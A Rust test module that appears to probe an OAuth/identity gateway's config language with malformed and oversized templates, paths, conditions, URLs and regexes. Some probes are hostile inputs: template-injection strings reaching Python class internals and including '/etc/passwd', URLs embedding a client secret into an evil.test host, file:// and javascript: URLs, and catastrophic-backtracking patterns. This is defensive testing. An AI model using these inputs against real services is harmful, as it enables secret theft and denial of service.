//! T-52 to T-54: templates, conditions, paths and patterns that run away, or reach for what is not theirs.

use crate::probes::{Probe, acme};

pub fn probes() -> Vec<Probe> {
    let claim = |source: &str| {
        acme(
            "profile: {sub: $.userinfo.id}",
            &format!("profile: {{sub: $.userinfo.id, name: {}}}", quoted(source)),
        )
    };
    let mut probes: Vec<Probe> =
        templates().into_iter().map(|(name, source)| Probe::text(name, claim(&source))).collect();
    probes.extend(paths().into_iter().map(|(name, source)| Probe::text(name, claim(&source))));
    probes.extend(conditions().into_iter().map(|(name, source)| {
        Probe::text(
            name,
            acme(
                "userinfo_endpoint:",
                &format!("token: {{response: {{ok: {}}}}}\nuserinfo_endpoint:", quoted(&source)),
            ),
        )
    }));
    probes.extend(
        urls()
            .into_iter()
            .map(|(name, source)| Probe::text(name, acme("https://acme.example/me", &quoted(source)))),
    );
    probes.extend(patterns().into_iter().map(|(name, source)| {
        Probe::text(
            name,
            acme(
                "profile:",
                &format!("authorization: {{inputs: {{org: {{pattern: {}}}}}}}\nprofile:", quoted(&source)),
            ),
        )
    }));
    probes.extend(many().into_iter().map(|(name, text)| Probe::text(name, text)));
    probes
}

/// Many of a kind.
fn many() -> Vec<(String, String)> {
    let members = |one: &str| {
        let members = (0..).map(|n| format!("  c{n}: {one}\n"));
        members.take(400).collect::<String>()
    };
    let claims = |one: &str| {
        acme("profile: {sub: $.userinfo.id}", &format!("profile:\n  sub: $.userinfo.id\n{}", members(one)))
    };
    let vars = |one: &str| acme("profile:", &format!("vars:\n{}profile:", members(one)));
    vec![
        ("400 templates".into(), claims("'{{ userinfo.a }}'")),
        ("400 templates with an error".into(), claims("'{{ userinfo.a | }}'")),
        ("400 paths".into(), claims("$.userinfo.a")),
        ("400 paths with an error".into(), claims("$.userinfo[")),
        ("400 patterns".into(), vars("{pattern: '^[a-z]{1,999}$'}")),
        ("400 patterns of any letters".into(), vars("{pattern: '^\\w{1,9}$'}")),
        ("400 patterns that are too large".into(), vars("{pattern: '^\\w{999}$'}")),
        (
            "100 tests".into(),
            acme(
                "tests:",
                &format!(
                    "tests:\n{}",
                    "  - {error: access_denied, callback: {error: access_denied}}\n".repeat(100)
                ),
            ),
        ),
    ]
}

fn quoted(source: &str) -> String {
    format!("'{}'", source.replace('\'', "''"))
}

fn templates() -> Vec<(String, String)> {
    let mut probes: Vec<(String, String)> = vec![];
    for length in [1_000, 60_000] {
        for (name, open, close) in [
            ("sums", "1+", ""),
            ("brackets", "(", ")"),
            ("lists", "[", "]"),
            ("maps", "{'a':", "}"),
            ("subscripts", "x[", "]"),
            ("filters", "x|default(", ")"),
            ("signs", "-", ""),
            ("negations", "not ", ""),
        ] {
            let length = if open == "{'a':" { length / 2 } else { length };
            let times = length / (open.len() + close.len());
            let source = format!("{{{{ {}1{} }}}}", open.repeat(times), close.repeat(times));
            probes.push((format!("{length} bytes of {name}"), source));
        }
        probes.push((format!("{length} bytes of ifs"), "{% if x %}".repeat(length / 10)));
        probes.push((format!("{length} bytes of braces"), "{{".repeat(length / 2)));
        probes.push((format!("{length} bytes of text"), "x".repeat(length)));
    }
    let fixed = [
        ("a class", "{{ ''.__class__ }}"),
        ("a class of a class", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("debug", "{{ debug() }}"),
        ("range", "{{ range(1000000000) }}"),
        ("an include", "{% include '/etc/passwd' %}"),
        ("an import", "{% import 'a' as b %}"),
        ("a loop", "{% for a in userinfo %}{{ a }}{% endfor %}"),
        ("a macro", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        ("a block", "{% block b %}{% endblock %}"),
        ("raw", "{% raw %}{{ x }}{% endraw %}"),
        ("a filter that is not ours", "{{ userinfo.id | safe }}"),
        ("a filter by attribute", "{{ userinfo | attr('id') }}"),
        ("a list many times", "{{ [1] * 100000000 }}"),
        ("a text many times", "{{ 'a' * 100000000 }}"),
        ("a value that doubles", "{% set x = [userinfo, userinfo] %}{% set x = [x, x] %}{{ x | tojson }}"),
        ("a template that is never closed", "{{ userinfo.id"),
        ("a secret in a claim", "{{ client.secret }}"),
        ("a name nobody knows", "{{ userinf.id }}"),
    ];
    probes.extend(fixed.map(|(name, source)| (name.to_owned(), source.to_owned())));
    probes
}

fn paths() -> Vec<(String, String)> {
    let deep =
        |open: &str, close: &str, n: usize| format!("$.userinfo[?{}@.a{}]", open.repeat(n), close.repeat(n));
    let probes = [
        ("descendants four times", "$..*..*..*..*".to_owned()),
        ("a descendant", "$.userinfo..a".to_owned()),
        ("a descendant in a filter", "$.userinfo[?@..a]".to_owned()),
        ("a filter in a filter", "$.userinfo[?@[?@>1]]".to_owned()),
        ("950 brackets", deep("(", ")", 950)),
        ("60 brackets", deep("(", ")", 60)),
        ("100 negations", deep("!(", ")", 30)),
        ("60,000 members", format!("$.userinfo{}", ".a".repeat(30_000))),
        ("100 members", format!("$.userinfo{}", ".a".repeat(100))),
        ("100 subscripts", format!("$.userinfo[{}0]", "0,".repeat(100))),
        ("a name of 300 bytes", format!("$.userinfo['{}']", "a".repeat(300))),
        ("a pattern in a path", "$.userinfo[?search(@.a, '((a{1,1000}){1,1000})')]".to_owned()),
        ("a length in a path", "$.userinfo[?length(@.a) > 1]".to_owned()),
        ("the root in a filter", "$.userinfo[?@.a == $.userinfo.b]".to_owned()),
        ("a path that is never closed", "$.userinfo[".to_owned()),
        ("a lone surrogate in a path", "$.userinfo['\\ud800']".to_owned()),
        ("an index that no number holds", "$.userinfo[99999999999999999999]".to_owned()),
        ("twenty times everything", format!("$.userinfo{}", "[*,*,*,*]".repeat(20))),
    ];
    probes.map(|(name, source)| (name.to_owned(), source)).into()
}

fn conditions() -> Vec<(String, String)> {
    let mut probes: Vec<(String, String)> =
        [("brackets", "(", ")"), ("negations", "not ", ""), ("ands", "body.a and ", "")]
            .into_iter()
            .map(|(name, open, close)| {
                (
                    format!("a condition of 1,000 {name}"),
                    format!("{}body.ok{}", open.repeat(1_000), close.repeat(1_000)),
                )
            })
            .collect();
    probes.push(("a condition that calls".into(), "debug()".into()));
    probes.push(("a condition that is none".into(), "body.ok =".into()));
    probes
}

fn urls() -> Vec<(String, &'static str)> {
    [
        ("a secret in a host", "https://{{ client.secret }}.evil.test/"),
        ("a secret in a path", "https://evil.test/{{ client.secret }}"),
        ("a response in a host", "https://{{ token.host }}/me"),
        ("a space in a URL", "https://acme.example/ HTTP/1.1"),
        ("a backslash in a URL", "https://acme.example\\@evil.test/"),
        ("http", "http://acme.example/me"),
        ("a URL of a script", "javascript:alert(1)"),
        ("a URL of a file", "file:///etc/passwd"),
        ("a password in a URL", "https://a:b@acme.example/me"),
    ]
    .map(|(name, source)| (name.to_owned(), source))
    .into()
}

fn patterns() -> Vec<(String, String)> {
    [
        ("a pattern of a million states", "^((a{1,1000}){1,1000})$".to_owned()),
        ("a pattern of many letters", "^\\w{1,9999}$".to_owned()),
        ("a pattern that looks behind", "^(?<=a)b$".to_owned()),
        ("a pattern that repeats what it found", "^(a)\\1$".to_owned()),
        ("a pattern that is never closed", "^(a$".to_owned()),
        ("250 brackets in a pattern", format!("^{}a{}$", "(".repeat(250), ")".repeat(250))),
        ("30,000 brackets in a pattern", format!("^{}a{}$", "(".repeat(30_000), ")".repeat(30_000))),
        ("a pattern of 1,024 bytes", format!("^[{}]$", "a".repeat(1_020))),
        ("a pattern of 1,025 bytes", format!("^[{}]$", "a".repeat(1_021))),
        ("a pattern of 60,000 bytes", format!("^{}$", "a?".repeat(30_000))),
    ]
    .map(|(name, source)| (name.to_owned(), source))
    .into()
}
